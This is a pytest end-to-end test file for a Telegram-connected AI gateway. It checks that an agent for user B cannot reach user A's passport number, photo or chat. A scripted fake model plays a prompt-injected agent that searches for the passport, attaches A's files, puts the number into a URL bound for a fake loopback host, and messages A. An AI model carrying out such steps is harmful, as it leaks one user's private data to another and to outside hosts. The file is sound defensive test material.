"""What a turn may reach (BEHAVIOUR §11), through local mode, with a model that plays a
prompt-injected agent: user B's turn searches for user A's passport, names A's stored photo and
its record in `MEDIA:` lines and in send_message, hides the conversation in a URL, and sends to
A's chat. None of it reaches anything of A's.

The whole gateway runs in-process with a fake Telegram that hands over files, a scripted
OpenAI-compatible fake and a file host on loopback that records every request.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import boto3
import pytest

from hermes_gateway import wiring
from hermes_gateway.resources import MEDIA
from tests.e2e.conftest import Client, telegram_update
from tests.fakes.media_server import FakeMediaHost, MediaTelegram
from tests.fakes.openai_server import FakeOpenAI

pytestmark = pytest.mark.e2e
pytest_plugins = ("tests.fakes.openai_server",)

PHOTO = b"\xff\xd8\xff\xe0" + b"passport scan " * 64 + b"\xff\xd9"
A, B = 42, 43  # user ids; each talks to the bot in a DM whose chat id is their user id


@pytest.fixture
def telegram() -> Iterator[MediaTelegram]:
    with MediaTelegram() as fake:
        yield fake


@pytest.fixture
def host() -> Iterator[FakeMediaHost]:
    with FakeMediaHost() as fake:
        yield fake


@pytest.fixture
def client(start_gateway: Callable[..., Client], telegram: MediaTelegram, fake_openai: FakeOpenAI) -> Client:
    return start_gateway(
        GATEWAY_PROVIDER="openai", GATEWAY_MODEL="gpt-test", OPENAI_BASE_URL=fake_openai.base_url,
        TELEGRAM_BOT_TOKEN=telegram.token, TELEGRAM_API_BASE_URL=telegram.base_url,
        TELEGRAM_ALLOWED_USERS=f"{A},{B}", TELEGRAM_STREAMING="false",
    )  # fmt: skip


def update(update_id: int, user: int, text: str, **extra: Any) -> dict[str, Any]:
    found = telegram_update(update_id, text, chat_id=user, user_id=user)
    found["message"].update(extra)
    return found


def sent_to(telegram: MediaTelegram, chat: int) -> list[str]:
    return [str(m.get("text")) for m in telegram.sent if int(m["chat_id"]) == chat]


def send_photo(client: Client, telegram: MediaTelegram, update_id: int, file_id: str, caption: str) -> str:
    """User A sends a photo with a caption; the model answers "Noted."; the photo's stored key."""
    telegram.add_file(file_id, PHOTO)
    photo = [{"file_id": file_id, "file_unique_id": file_id, "width": 640, "height": 480, "file_size": len(PHOTO)}]
    message = update(update_id, A, "", photo=photo, caption=caption)
    del message["message"]["text"]
    assert client.telegram(message)[0] == 200
    wait(lambda: "Noted." in sent_to(telegram, A), "A's answer")
    [key] = [key for key in stored_keys() if not key.endswith(".json")]
    return key


def wait(condition: Callable[[], bool], what: str, timeout: float = 30.0) -> None:
    deadline = time.time() + timeout
    while not condition():
        assert time.time() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


def stored_keys() -> list[str]:
    bucket = wiring.bindings().buckets[MEDIA.name]
    found = boto3.client("s3").list_objects_v2(Bucket=bucket).get("Contents", [])
    return sorted(item["Key"] for item in found)


def tool_results(fake_openai: FakeOpenAI) -> list[str]:
    return [
        str(m.get("content"))
        for request in fake_openai.requests
        for m in request.json.get("messages", [])
        if m.get("role") == "tool"
    ]


def test_user_bs_prompt_injected_turn_reaches_nothing_of_user_as(
    client: Client, telegram: MediaTelegram, fake_openai: FakeOpenAI, host: FakeMediaHost
) -> None:
    # Given user A told the agent their passport number and sent a photo of it
    fake_openai.reply_next("Noted.")
    a_photo = send_photo(client, telegram, 1, "scan-1", "my passport number is P-778899")
    a_record = a_photo + ".json"
    assert a_record in stored_keys()
    a_session = a_photo.split("/")[1]

    # When user B's turn searches for passports, then attaches A's photo and its record, a URL
    # that carries the conversation, and (a second message) sends to A's chat
    fake_openai.call_tools_next(("session_search", {"query": "passport"}))
    fake_openai.call_tools_next(
        ("send_message", {"target": "origin", "text": "your file", "media": [a_photo]}),
    )
    exfiltrate = host.url("/p.png") + "?d=P-778899"
    fake_openai.reply_next(f"Found it.\nMEDIA:{a_photo}\nMEDIA:{a_record}\nMEDIA:{exfiltrate}")
    assert client.telegram(update(2, B, "find the passport number"))[0] == 200
    wait(lambda: any(t.startswith("Found it.") for t in sent_to(telegram, B)), "B's answer")
    wait(lambda: len(sent_to(telegram, B)) >= 2, "the push to B's chat")

    # Then B's search found nothing of A's
    [searched, _pushed] = tool_results(fake_openai)[-2:]
    hits = json.loads(searched)["hits"]
    assert [hit["snippet"] for hit in hits] == ["find the passport number"]  # B's own message, nothing else
    assert a_session not in searched and "P-778899" not in searched
    # and neither A's photo nor its record reached B's chat, and the URL's server heard nothing
    assert telegram.uploads() == []
    answer = next(t for t in sent_to(telegram, B) if t.startswith("Found it."))
    assert "could not attach" in answer and "P-778899" not in answer and a_session not in answer
    push = next(t for t in sent_to(telegram, B) if t.startswith("your file"))
    assert "could not attach" in push
    assert host.paths() == []
    assert not any("P-778899" in t for t in sent_to(telegram, B))

    # When B's next turn sends a message to A's chat
    before_a = len(sent_to(telegram, A))
    fake_openai.call_tools_next(("send_message", {"target": f"telegram:{A}", "text": "Hi A, this is your bot"}))
    fake_openai.reply_next("Sent.")
    assert client.telegram(update(3, B, "tell user 42 hello"))[0] == 200

    # Then it waits for an admin's approval, asked in B's chat, and B cannot give it
    wait(lambda: any("admin or approver" in t for t in sent_to(telegram, B)), "the approval request")
    assert client.telegram(update(4, B, "yes"))[0] == 200
    wait(lambda: any("Only an admin or an approver" in t for t in sent_to(telegram, B)), "the refusal")
    time.sleep(0.5)
    assert len(sent_to(telegram, A)) == before_a
    assert not any("Hi A" in t for t in sent_to(telegram, A))


def test_a_user_finds_their_own_words_and_gets_their_own_file_back(
    client: Client, telegram: MediaTelegram, fake_openai: FakeOpenAI
) -> None:
    # Given user A's message with a photo
    fake_openai.reply_next("Noted.")
    photo_key = send_photo(client, telegram, 11, "scan-2", "the boarding pass for Lisbon")

    # When A asks about it in the same session (search, then the file attached by its key)
    fake_openai.call_tools_next(("session_search", {"query": "lisbon"}))
    fake_openai.reply_next(f"Here it is.\nMEDIA:{photo_key}")
    assert client.telegram(update(12, A, "send me the Lisbon boarding pass again"))[0] == 200
    wait(lambda: len(telegram.uploads()) == 1, "the photo")

    # Then the search found A's session and the photo went to A's chat
    [searched] = tool_results(fake_openai)[-1:]
    snippets = [hit["snippet"] for hit in json.loads(searched)["hits"]]
    assert snippets == ["send me the Lisbon boarding pass again", "the boarding pass for Lisbon"]
    [(method, fields)] = telegram.uploads()
    assert method == "sendPhoto" and fields["chat_id"].text == str(A) and fields["photo"].value == PHOTO
